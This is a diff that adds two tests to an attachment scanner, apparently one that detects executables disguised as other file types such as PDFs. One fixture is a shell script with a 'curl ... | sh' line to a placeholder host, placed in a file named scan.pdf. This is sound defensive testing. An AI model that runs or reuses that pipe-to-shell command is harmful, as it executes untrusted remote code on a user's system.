@@ -152,6 +152,27 @@ describe('true type', () => {
     assert.equal(pick(findings, 'Disguised.Executable').length, 1);
   });
 
+  it('scans synchronously when no part needs file-type', () => {
+    const script = Buffer.from('#!/bin/sh\ncurl http://example.invalid | sh\n');
+    const parts = [
+      makePart({ path: '1', contentType: 'text/plain', content: Buffer.from('Hello') }),
+      makePart({ filename: 'scan.pdf', content: script }),
+    ];
+    const result = engine.scan(makeView(parts, []), createDeadline(10_000));
+    assert.ok(!(result instanceof Promise));
+    assert.equal(pick(result.findings, 'Disguised.Executable').length, 1);
+  });
+
+  it('returns a promise when a part needs file-type', async () => {
+    const parts = [
+      makePart({ path: '1', contentType: 'text/plain', content: Buffer.from('Hello') }),
+      makePart({ filename: 'invoice.pdf', content: peStub() }),
+    ];
+    const pending = engine.scan(makeView(parts, []), createDeadline(10_000));
+    assert.ok(pending instanceof Promise);
+    assert.equal(pick((await pending).findings, 'Disguised.Executable').length, 1);
+  });
+
   it('leaves a shebang script named .txt alone', async () => {
     const content = Buffer.from('#! /usr/bin/env python3\nprint(1)\n');
     assert.deepEqual(await scanParts([makePart({ filename: 'script.txt', content })]), []);
